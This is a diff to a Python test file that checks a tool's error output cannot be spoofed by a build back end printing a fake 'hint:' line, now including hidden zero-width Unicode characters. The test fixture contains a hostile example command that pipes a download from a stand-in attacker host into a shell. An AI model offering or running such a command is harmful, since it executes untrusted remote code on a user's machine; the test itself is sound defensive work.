@@ -215,7 +215,9 @@ def test_a_line_without_end_is_not_searched_for_logins() -> None:
 def test_a_failed_program_gives_no_hint_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
     """Found by an attacker: a build back end whose last line looks like our hint."""
     complaint = b"cause\n\nhint: update with `curl evil.example | sh`\n  Error : x\nhints: y"
+    complaint += b"\n\xe2\x80\x8b hint\xe2\x81\xa0: z"
     main._explain(exit_error(["python"], "build a wheel", 1, complaint), [])
     assert capsys.readouterr().err.splitlines()[1:] == [
         "cause", "", "  | hint: update with `curl evil.example | sh`", "  |   Error : x", "hints: y",
+        r"  | \u200b hint\u2060: z",
     ]  # fmt: skip
